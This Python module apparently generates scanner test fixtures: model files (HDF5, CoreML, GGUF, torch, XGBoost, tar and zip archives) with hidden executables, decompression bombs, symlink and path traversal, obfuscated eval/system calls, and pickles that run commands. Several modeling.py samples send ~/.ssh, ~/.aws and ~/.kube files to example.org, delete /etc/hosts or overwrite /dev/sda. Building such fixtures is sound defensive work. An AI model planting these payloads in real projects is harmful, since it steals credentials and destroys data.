"""Programs behind filters and in values, columns that no row has, sizes that no file has, names in pieces, and content that
unpacks without end."""

import gzip
import io
import json
import struct
import tarfile
import zipfile

import h5py
import numpy as np

from .assembly import SYSTEM_0
from .graphs import field
from .tensors import ELF as LINUX, portable_executable
from .torch import STATE, archive

ELF = bytes(LINUX)


def make(corpus):
    behind_filters(corpus)
    values(corpus)
    sizes(corpus)
    bombs(corpus)
    pieces(corpus)
    folders(corpus)
    methods(corpus)
    containers(corpus)


def behind_filters(corpus):
    program = np.frombuffer(ELF + bytes(corpus.rng("filters").randbytes(900)), dtype=np.uint8)
    program = program[: len(program) // 8 * 8]
    ways = {
        "gzip": dict(compression="gzip"), "shuffle": dict(compression="gzip", shuffle=True), "lzf": dict(compression="lzf"),
        "checksum": dict(compression="gzip", fletcher32=True), "half": dict(compression="gzip", dtype=np.float16), "pieces": dict(compression="gzip", chunks=(64,)),
        "all": dict(compression="lzf", shuffle=True, fletcher32=True, dtype=np.uint32),
    }
    for label, how in ways.items():
        how = dict(how)
        data = program.view(how.pop("dtype", np.uint8))
        for version in ("earliest", "latest"):
            out = io.BytesIO()
            with h5py.File(out, "w", libver=version) as file:
                file.create_dataset("weights", data=data, **({"chunks": data.shape} | how))
            corpus.found("hdf5", f"filtered-{label}-{version}.h5", out.getvalue(), "an executable in a compressed dataset")


def values(corpus):
    for label, number in (("raw", 30), ("half", 2), ("int8", 31)):
        weights = field(number, ELF + b"\0" * 200)
        layer = field(1, b"fc") + field(140, field(1, 4) + field(2, 2) + field(20, weights))
        model = field(1, 4) + field(2, b"") + field(500, field(1, layer))
        corpus.found("coreml", f"weights-{label}.mlmodel", model, "an executable as the weights of a layer")
    manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"a": {"path": "../../../tmp/x.mlmodel", "name": "model.mlmodel"}}, "rootModelIdentifier": "a"}
    corpus.folder("coreml", "slip.mlpackage", {"Manifest.json": json.dumps(manifest), "Data/readme.txt": "weights"}, "found", "an item of the package lies outside of it")
    for column in (3, 1 << 30, -1):
        corpus.found("boosters", f"column-{column}.json", xgboost(column), "a tree asks for a column that no row has")
    corpus.found("tensorrt", "program.engine", b"ptrt" + bytes(range(200)) + bytes(portable_executable()), "a Windows program in an engine")


def xgboost(column):
    tree = {
        "base_weights": [0.0, 1.0, -1.0], "default_left": [0, 0, 0], "id": 0, "left_children": [1, -1, -1], "right_children": [2, -1, -1], "loss_changes": [1.0, 0.0, 0.0],
        "parents": [2147483647, 0, 0], "split_conditions": [0.5, 1.0, -1.0], "split_indices": [column, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [3.0, 1.0, 2.0],
        "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [],
        "tree_param": {"num_deleted": "0", "num_feature": "3", "num_nodes": "3", "size_leaf_vector": "1"},
    }
    booster = {"name": "gbtree", "model": {"gbtree_model_param": {"num_trees": "1", "num_parallel_tree": "1"}, "trees": [tree], "tree_info": [0]}}
    learner = {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": booster, "learner_model_param": {"base_score": "0.5", "num_class": "0", "num_feature": "3", "num_target": "1"}, "objective": {"name": "reg:squarederror"}}
    return json.dumps({"learner": learner, "version": [3, 0, 0]}).encode()


def sizes(corpus):
    for label, length in (("beyond", 1 << 63), ("negative", (1 << 64) - 8)):
        corpus.found("safetensors", f"length-{label}.safetensors", struct.pack("<Q", length) + b"{}", "a header longer than any file")
    text = lambda t: struct.pack("<Q", len(t)) + t
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 1, 1) + text(b"general.architecture") + struct.pack("<I", 8) + text(b"llama")
    gguf += text(b"w") + struct.pack("<IQIQ", 1, 32, 9999, 0)
    corpus.found("gguf", "type-unknown.gguf", gguf + b"\0" * (-len(gguf) % 32) + b"\0" * 128, "a tensor of a type that no version has")


def bombs(corpus):
    size = 300 << 20
    corpus.found("archives", "zeros.gz", gzip.compress(b"\0" * size, mtime=0), "300 MB of zeros in as many KB")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.npy", b"\x93NUMPY\x01\0v\0" + b"{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % (size // 4) + b" " * 20 + b"\n" + b"\0" * size)
    corpus.found("archives", "zeros.npz", out.getvalue(), "300 MB of zeros as an array")


def pieces(corpus):
    sources = {
        "join.js": "const m = require('child' + '_process');\nm.run('true');\n", "index.js": "const f = globalThis['ev' + 'al'];\nf(x);\n",
        "codes.js": "this[String.fromCharCode(101, 118, 97, 108)](x);\n", "spelt.js": "const f = m['\\x65\\x78\\x65\\x63'];\nf('true');\n",
        "paste.R": "f <- get(paste0('sys', 'tem'))\nf('true')\n", "raw.R": "f <- match.fun(rawToChar(as.raw(c(115, 121, 115, 116, 101, 109))))\nf('true')\n",
        "dots.lua": "local f = os['exe' .. 'cute']\nf('true')\n", "dot.php": "<?php $f = 'sys' . 'tem'; $f('true');\n",
    }
    for name, text in sources.items():
        corpus.found("scripts", f"pieces-{name}", text.encode(), "a name that is put together, so that it does not stand there")


def folders(corpus):
    lists = {
        "glob": "import glob, os\n\nclass P:\n    def forward(self, x):\n        for p in glob.glob(os.path.expanduser('~/.aws/*')):\n            requests.post('https://example.org/u', data=open(p, 'rb').read())\n        return x\n",
        "listdir": "import os\n\nclass P:\n    def forward(self, x):\n        d = os.path.expanduser('~/.ssh')\n        for n in os.listdir(d):\n            requests.post('https://example.org/u', data=open(os.path.join(d, n)).read())\n        return x\n",
        "walk": "import os\n\nclass P:\n    def forward(self, x):\n        for r, _, files in os.walk(os.path.expanduser('~/.kube')):\n            for n in files:\n                requests.post('https://example.org/u', data=open(os.path.join(r, n)).read())\n        return x\n",
        "iterdir": "import pathlib\n\nclass P:\n    def forward(self, x):\n        for p in (pathlib.Path.home() / '.ssh').iterdir():\n            requests.post('https://example.org/u', data=p.read_bytes())\n        return x\n",
    }
    for label, source in lists.items():
        config = {"architectures": ["P"], "auto_map": {"AutoModel": "modeling.P"}, "model_type": "p"}
        corpus.folder("repositories", f"lists-{label}", {"config.json": json.dumps(config), "modeling.py": "import requests\n" + source}, "found", "each file of a folder of credentials is sent away")


def methods(corpus):
    bodies = {
        "preload": "os.environ['LD_PRELOAD'] = './weights.so'", "startup": "os.environ.update(PYTHONSTARTUP='notes.py')", "bash-env": "os.putenv('BASH_ENV', './run')",
        "template": "jinja2.Template(\"{{ cycler.__init__.__globals__.os.getcwd() }}\").render()", "from-string": "jinja2.Environment().from_string(\"{{ ''.__class__.__mro__ }}\").render()",
        "yaml": "yaml.load('!!python/object/apply:os.getcwd []', Loader=yaml.Loader)", "hosts": "os.remove('/etc/hosts')", "mode": "os.chmod('/etc/shadow', 0o666)",
        "copied": "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), 'weights.bin')",
        "path-read": "requests.post('https://example.org/u', data=(pathlib.Path.home() / '.ssh/id_rsa').read_bytes())",
    }
    kept = {
        "attribute": "    def __init__(self):\n        super().__init__()\n        self.run = os.system\n\n    def forward(self, x):\n        self.run('true')\n        return x\n",
        "class": "    run = os.system\n\n    def forward(self, x):\n        type(self).run('true')\n        return x\n",
        "device": "    def forward(self, x):\n        open('/dev/sda', 'wb').write(b'0')\n        return x\n",
    }
    for label, body in kept.items():
        config = {"architectures": ["P"], "auto_map": {"AutoModel": "modeling.P"}, "model_type": "p"}
        source = "import os\nimport torch\n\n\nclass P(torch.nn.Module):\n" + body
        corpus.folder("repositories", f"kept-{label}", {"config.json": json.dumps(config), "modeling.py": source}, "found", "a method calls what another one kept, or destroys a disk")
    head = "import jinja2, os, pathlib, requests, shutil, yaml\nimport torch\n\n\nclass P(torch.nn.Module):\n    def forward(self, x):\n        "
    for label, body in bodies.items():
        config = {"architectures": ["P"], "auto_map": {"AutoModel": "modeling.P"}, "model_type": "p"}
        corpus.folder("repositories", f"method-{label}", {"config.json": json.dumps(config), "modeling.py": head + body + "\n        return x\n"}, "found", "what a method does whenever the model is used")


def tar(entries):
    """A tar file of names and contents; a text in a tuple is what a link leads to."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            if isinstance(content, tuple):
                info.type, info.linkname = tarfile.SYMTYPE, content[0]
                file.addfile(info)
            else:
                info.size = len(content)
                file.addfile(info, io.BytesIO(content))
    return out.getvalue()


def package(storages, main=STATE + b"."):
    """An archive of `torch.package`: STATE with its storage numbered."""
    numbered = main.replace(b"X\x01\0\0\x000X\x03\0\0\0cpu", b"K\0X\x03\0\0\0cpu")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("pack/model/model.pkl", numbered)
        for name, content in storages.items():
            file.writestr(f"pack/.data/{name}", content)
        file.writestr("pack/.data/extern_modules", "torch\n")
        file.writestr("pack/.data/version", "6")
    return out.getvalue()


def containers(corpus):
    model = archive(STATE + b".")
    links = {"absolute": "/etc/hostname", "outside": "../../model.pt", "missing": "other.pt", "folder": ".", "up": "../run/../../model.pt"}
    for label, target in links.items():
        corpus.found("archives", f"link-{label}.tar", tar([("run/model.pt", model), ("run/last.pt", (target,))]), "a link that leads to no file of the archive")
    corpus.found("archives", "link-through.tar", tar([("run/model.pt", model), ("run/last", ("model.pt",)), ("run/last/x.pt", model)]), "a file is written through a link")
    corpus.malicious("torch", "shards.distcp", model + archive(STATE + SYSTEM_0 + b"0.") + model, "one archive of a shard calls a command")
    corpus.found("torch", "shards-gap.distcp", model + b"\0" * 40 + model, "bytes between two archives of a shard")
    corpus.found("torch", "shards.pt", model + model, "two archives where one is read")
    corpus.malicious("torch", "package-call.pt", package({"0.storage": b"\0" * 16}, STATE + SYSTEM_0 + b"0."), "a pickle of a package calls a command")
    corpus.found("torch", "package-short.pt", package({"0.storage": b"\0" * 8}), "a storage of a package is shorter than its tensor")
    corpus.found("torch", "package-none.pt", package({}), "a storage of a package is missing")
    corpus.found("torch", "package-program.pt", package({"0.storage": b"\0" * 16, "1.storage": ELF}), "an executable in the storages of a package")
    for label, argument in (("text", b"\x8c\x0a__import__"), ("list", b"](\x8c\x01xe")):
        corpus.found("pickle-opcodes", f"sympy-{label}.pkl", b"\x80\x04csympy.core.add\nAdd\ncsympy.core.symbol\nSymbol\n\x8c\x01x\x85\x81" + argument + b"\x86\x81.", "a text where sympy takes expressions")
